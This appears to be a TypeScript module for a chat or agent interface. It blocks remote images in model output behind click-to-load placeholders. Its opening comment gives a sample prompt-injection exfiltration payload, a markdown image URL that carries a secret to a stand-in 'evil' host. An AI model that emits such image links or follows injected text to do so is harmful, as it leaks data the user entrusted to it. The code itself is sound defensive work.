// Remote images in model output are never fetched automatically (a
// prompt-injected `![](https://evil/?leak=SECRET)` would otherwise exfiltrate
// data the agent read): each becomes a placeholder naming the host, and a
// click loads the images of that one message.

/** Attribute of a placeholder holding the image URL. */
export const IMG_SRC_ATTR = 'data-md-img';
/** Attribute of a placeholder holding the image's alt text. */
export const IMG_ALT_ATTR = 'data-md-img-alt';

/** The host of an http(s) URL, or null for anything else. */
export function imageHost(src: string): string | null {
  try {
    const u = new URL(src);
    return u.protocol === 'http:' || u.protocol === 'https:' ? u.host : null;
  } catch {
    return null;
  }
}

/**
 * Replaces every <img> of sanitised html with a placeholder button (parsed
 * in an inert <template>, so nothing is fetched here). Images without an
 * http(s) source are replaced by their alt text.
 */
export function blockImages(html: string, doc: Document): string {
  if (!/<img/i.test(html)) return html;
  const t = doc.createElement('template');
  t.innerHTML = html;
  for (const img of Array.from(t.content.querySelectorAll('img'))) {
    const src = img.getAttribute('src') ?? '';
    const alt = img.getAttribute('alt') ?? '';
    const host = imageHost(src);
    if (!host) {
      img.replaceWith(doc.createTextNode(alt));
      continue;
    }
    const b = doc.createElement('button');
    b.type = 'button';
    b.className = 'md-img-blocked';
    b.setAttribute(IMG_SRC_ATTR, src);
    if (alt) b.setAttribute(IMG_ALT_ATTR, alt);
    b.title = `Not loaded: ${src}`;
    b.textContent = `Image from ${host}${alt ? ` (${alt})` : ''} — not loaded; click to load this message's images`;
    img.replaceWith(b);
  }
  return t.innerHTML;
}

/** Turns the placeholders of html back into images (after the user asked). */
export function loadImages(html: string, doc: Document): string {
  if (!html.includes(IMG_SRC_ATTR)) return html;
  const t = doc.createElement('template');
  t.innerHTML = html;
  for (const b of Array.from(t.content.querySelectorAll(`[${IMG_SRC_ATTR}]`))) {
    const src = b.getAttribute(IMG_SRC_ATTR) ?? '';
    if (!imageHost(src)) continue;
    const img = doc.createElement('img');
    img.src = src;
    img.alt = b.getAttribute(IMG_ALT_ATTR) ?? '';
    img.setAttribute('referrerpolicy', 'no-referrer');
    img.setAttribute('loading', 'lazy');
    b.replaceWith(img);
  }
  return t.innerHTML;
}

/** True when target is (inside) an image placeholder. */
export function isImagePlaceholder(target: EventTarget | null): boolean {
  return target instanceof Element && target.closest(`[${IMG_SRC_ATTR}]`) !== null;
}
